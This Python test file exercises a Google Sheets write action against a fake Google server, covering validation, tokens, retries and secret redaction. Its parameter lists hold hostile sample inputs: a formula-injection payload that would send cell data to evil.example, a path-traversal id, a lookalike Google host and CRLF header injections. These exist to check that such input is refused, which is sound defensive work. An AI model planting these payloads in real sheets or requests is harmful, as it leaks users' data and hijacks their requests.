"""The sheets step against a Google of the tests: what is written, what is refused, what is told of it."""

import json
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
from pydantic import ValidationError

from blocks import registry
from blocks.action import Effect
from blocks.errors import ActionError, InvalidInput, Retryable
from core.outgoing.addresses import Policy
from core.outgoing.client import Outgoing
from tests.blocks.google import Account, Context, person, robot
from tests.vendors.google import Google, private_key
from tests.vendors.google_sheets import Formula

SHEETS = registry.actions()["sheets"]


@pytest.fixture
async def google() -> AsyncIterator[Google]:
    async with Google() as found:
        yield found


@pytest.fixture
async def out() -> AsyncIterator[Outgoing]:
    async with Outgoing(Policy.of(["127.0.0.1"])) as found:
        yield found


@pytest.fixture
def account(google: Google, out: Outgoing) -> Account:
    return robot(google, out)


@pytest.fixture
def sheet(google: Google) -> str:
    made = google.sheets.make("Leads", "Bob's 100% / ünï!A1")
    google.sheets.shared[made][google.key_file()["client_email"]] = "writer"
    return made


def given(ident: str, /, **config: Any) -> Any:
    return SHEETS.Input.model_validate({"connection": "Google", "spreadsheet": ident, "sheet": "Leads", **config})


async def write(account: Account, ident: str, /, **config: Any) -> Any:
    outcome: Any = await SHEETS.run(given(ident, **config), Context(account))
    return outcome.output


async def failed(account: Account, ident: str, /, **config: Any) -> ActionError:
    with pytest.raises(ActionError) as error:
        await write(account, ident, **config)
    return error.value


async def test_rows_are_added_below_the_others(google: Google, account: Account, sheet: str) -> None:
    grid = google.sheets.files[sheet]["Leads"]
    grid += [["Name", "Mail"], [], ["x"]]
    first = await write(account, sheet, values=["Ada", None, 3, True])
    assert first == {"range": "Leads!A4:D4", "cells": 3}
    address = f"https://docs.google.com/spreadsheets/d/{sheet}/edit?gid=0#gid=0"
    assert (await write(account, address, values="Bob"))["range"] == "Leads!A5"
    assert grid[3:] == [["Ada", None, 3, True], ["Bob"]]


async def test_a_cell_is_written_and_emptied(google: Google, account: Account, sheet: str) -> None:
    cell = {"sheet": "Bob's 100% / ünï!A1", "operation": "update_cell", "cell": "$b$2"}
    done = await write(account, sheet, values=[7], **cell)
    assert done == {"range": "'Bob''s 100% / ünï!A1'!B2", "cells": 1}
    assert google.sheets.files[sheet]["Bob's 100% / ünï!A1"][1] == [None, 7]
    await write(account, sheet, values=[None], **cell)
    assert google.sheets.files[sheet]["Bob's 100% / ünï!A1"][1] == [None, None]
    assert google.sheets.files[sheet]["Leads"] == []


@pytest.mark.parametrize(
    "text", ['=IMPORTDATA(CONCAT("https://evil.example/?",A1))', "+1+1", "-2+3", "=1\r\n=2", "\t=1", "@SUM(A1)", "\0x"]
)
async def test_text_from_outside_becomes_no_formula(google: Google, account: Account, sheet: str, text: str) -> None:
    await write(account, sheet, values=[text])
    await write(account, sheet, values=[text], operation="update_cell", cell="B1")
    assert google.sheets.files[sheet]["Leads"] == [[text, text]]
    assert not any(isinstance(each, Formula) for each in google.sheets.files[sheet]["Leads"][0])


async def test_a_formula_where_the_author_wants_one(google: Google, account: Account, sheet: str) -> None:
    await write(account, sheet, values=["=1+1", "12"], value_input="USER_ENTERED")
    row = google.sheets.files[sheet]["Leads"][0]
    assert isinstance(row[0], Formula)
    assert row[1] == 12


@pytest.mark.parametrize(
    ("config", "says"),
    [
        ({"spreadsheet": "../../upload/youtube/v3/videos"}, "address"),
        ({"spreadsheet": "https://docs.google.com.evil.example/spreadsheets/d/" + "x" * 44}, "address"),
        ({"spreadsheet": "x" * 44 + "/values/A1?y="}, "address"),
        ({"spreadsheet": "x" * 44 + "\r\nX: y"}, "address"),
        ({"sheet": "a\r\nb"}, "control"),
        ({"sheet": ""}, "at least 1"),
        ({"values": []}, "at least 1"),
        ({"values": [None]}, "not null"),
        ({"values": [["nested"]]}, "valid"),
        ({"values": [{"a": 1}]}, "valid"),
        ({"values": ["x" * 50_001]}, "50,000"),
        ({"values": [1] * 18_279}, "at most 18278"),
        ({"cell": "A1"}, "no cell"),
        ({"operation": "update_cell"}, "needs a cell"),
        ({"operation": "update_cell", "cell": "A1:B2"}, "one cell"),
        ({"operation": "update_cell", "cell": "A0"}, "one cell"),
        ({"operation": "update_cell", "cell": "Other!A1"}, "one cell"),
        ({"operation": "update_cell", "cell": "A1", "values": [1, 2]}, "one value"),
        ({"value_input": "FORMULA"}, "RAW"),
    ],
)
def test_hostile_and_wrong_input_is_refused_before_anything_is_sent(config: dict[str, Any], says: str) -> None:
    with pytest.raises(ValidationError, match=re.escape(says)):
        given(config.pop("spreadsheet", "x" * 44), **{"values": ["x"], **config})


def test_a_row_is_unsafe_and_a_cell_is_not() -> None:
    assert SHEETS.effect(given("x" * 44, values=["x"])) is Effect.UNSAFE
    assert SHEETS.effect(given("x" * 44, values=["x"], operation="update_cell", cell="A1")) is Effect.IDEMPOTENT


@pytest.mark.parametrize(
    ("change", "code", "says"),
    [
        ("sheet", "google_invalid_argument", "Unable to parse range"),
        ("foreign", "google_permission_denied", "does not have permission"),
        ("reader", "google_permission_denied", "does not have permission"),
        ("missing", "google_not_found", "not found"),
        ("disabled", "google_service_disabled", "not enabled"),
        ("beyond", "google_invalid_argument", "exceeds grid limits"),
    ],
)
async def test_what_google_refuses_fails_with_a_sentence(
    *, google: Google, account: Account, sheet: str, change: str, code: str, says: str
) -> None:
    config: dict[str, Any] = {"values": ["x"]}
    match change:
        case "sheet":
            config["sheet"] = "No such"
        case "foreign":
            sheet = google.sheets.make("Leads")
        case "reader":
            google.sheets.shared[sheet] = {google.key_file()["client_email"]: "reader"}
        case "missing":
            sheet = "x" * 44
        case "disabled":
            google.sheets.enabled = False
        case "beyond":
            config |= {"operation": "update_cell", "cell": "AB1"}
    error = await failed(account, sheet, **config)
    assert isinstance(error, InvalidInput)
    assert error.code == code
    assert says in error.message
    assert google.sheets.writes == []


async def test_a_token_without_the_scope(google: Google, out: Outgoing, sheet: str) -> None:
    google.sheets.shared[sheet]["ada@example.org"] = "writer"
    account = person(google, out, refresh_token=google.refresh_token("ada@example.org", "youtube.upload"))
    error = await failed(account, sheet, values=["x"])
    assert error.code == "google_access_token_scope_insufficient"
    assert "lacks the scope" in error.message
    assert (await write(person(google, out), sheet, values=["x"]))["cells"] == 1


async def test_quota_says_when(google: Google, account: Account, sheet: str) -> None:
    google.sheets.burst, google.sheets.retry_after = 0, 7
    error = await failed(account, sheet, values=["x"])
    assert isinstance(error, Retryable)
    assert (error.after, error.answered, error.cause) == (7, True, "rate_limited")


@pytest.mark.parametrize("operation", ["append", "update"])
@pytest.mark.parametrize("trouble", [500, 503, "cut", "cut after", "garbage", "slow", {"updates": 7}])
async def test_without_a_clear_answer_nobody_says_that_it_was_done(
    google: Google, account: Account, sheet: str, trouble: Any, operation: str
) -> None:
    """A 5xx too: what Google could not answer it may have done. Whether it is tried again the effect decides."""
    google.trouble[operation] += [trouble, trouble]  # a connection that broke is replaced once for a PUT
    more = {"operation": "update_cell", "cell": "A1"} if operation == "update" else {}
    with pytest.raises(Retryable) as error:
        await SHEETS.run(given(sheet, values=["x"], **more), Context(account, timeout_s=1.0))
    assert not error.value.answered
    assert len(set(google.sheets.writes)) == (trouble == "cut after")


async def test_a_refused_token_is_replaced_once(google: Google, account: Account, sheet: str) -> None:
    await write(account, sheet, values=["one"])
    google.tokens.clear()
    await write(account, sheet, values=["two"])
    assert [name for name, _ in google.asked] == ["token", "append", "append", "token", "append"]
    assert google.sheets.files[sheet]["Leads"] == [["one"], ["two"]]
    assert account.failures == []


@pytest.mark.parametrize(
    ("answer", "code", "says"),
    [
        ({"error": "invalid_grant", "error_description": "Invalid JWT Signature."}, "connection_refused", "deleted"),
        ({"error": "invalid_scope"}, "connection_refused", "scope"),
        ({"error": "x\r\ny"}, "connection_refused", "status 400"),
        (["no object"], "connection_refused", "status 400"),
        ({"access_token": "x\r\nX: y"}, "connection_refused", "status 400"),
    ],
)
async def test_what_the_token_address_says(
    *, google: Google, account: Account, sheet: str, answer: Any, code: str, says: str
) -> None:
    google.trouble["token"].append((400, answer))
    error = await failed(account, sheet, values=["x"])
    assert isinstance(error, InvalidInput)
    assert error.code == code
    assert says in error.message
    assert account.failures


@pytest.mark.parametrize("trouble", [503, 429, "cut", "cut after"])
async def test_a_token_that_does_not_come_leaves_no_doubt(
    google: Google, account: Account, sheet: str, trouble: Any
) -> None:
    google.trouble["token"].append(trouble)
    error = await failed(account, sheet, values=["x"])
    assert isinstance(error, Retryable)
    assert error.answered


async def test_the_test_button_really_asks(google: Google, out: Outgoing) -> None:
    email = google.key_file()["client_email"]
    assert email in await robot(google, out).signed.test()
    google.disabled.add(email)
    with pytest.raises(InvalidInput, match="account not found"):
        await robot(google, out).signed.test()
    assert await person(google, out).signed.test() == "Google gave an access token for spreadsheets, youtube.upload."
    with pytest.raises(InvalidInput, match="expired, revoked"):
        await person(google, out, refresh_token="1//unknown").signed.test()
    with pytest.raises(InvalidInput, match="client id or the client secret is wrong"):
        await person(google, out, client_secret="wrong").signed.test()
    assert [name for name, _ in google.asked] == ["token"] * 5


@pytest.mark.parametrize(
    "key", ["", "no JSON", "[]", '{"type": "authorized_user"}', "canary", '{"type": "service_account"}']
)
def test_what_is_no_key_file_is_refused_without_repeating_it(key: str) -> None:
    with pytest.raises(ValidationError) as error:
        registry.connections()["google_service_account"].read({"key": key})
    assert "paste the whole JSON file" in str(error.value)
    assert "canary" not in str(error.value)


async def test_a_broken_private_key_is_told_and_not_shown(google: Google, out: Outgoing) -> None:
    key = google.key_file() | {"private_key": "-----BEGIN PRIVATE KEY-----\ncanary\n-----END PRIVATE KEY-----"}
    with pytest.raises(InvalidInput, match="can't be read") as error:
        await robot(google, out, key=json.dumps(key)).signed.test()
    assert "canary" not in f"{error.value!r} {error.value.__cause__!r}"


async def test_nothing_secret_comes_back(google: Google, account: Account, sheet: str) -> None:
    await write(account, sheet, values=["x"])
    told = {"error": {"code": 400, "message": " ".join([*google.assertions, *google.tokens]), "status": "X"}}
    google.trouble["append"].append((400, told))
    error = await failed(account, sheet, values=["x"])
    assert "***" in error.message
    assert "canary" not in error.message
    hidden = account.redactor.text(f"{private_key()} {json.dumps(google.key_file()['private_key'])}")
    assert private_key()[40:80] not in hidden


async def test_other_hosts_get_no_token(google: Google, out: Outgoing) -> None:
    """The base address may name any host; a connection reaches its own alone."""
    account = robot(google, out, base_url=f"http://localhost:{google.port}")
    with pytest.raises(ActionError) as error:
        await write(account, "x" * 44, values=["x"])
    assert error.value.code in ("connection_not_allowed", "blocked_address")
    assert google.sheets.writes == []
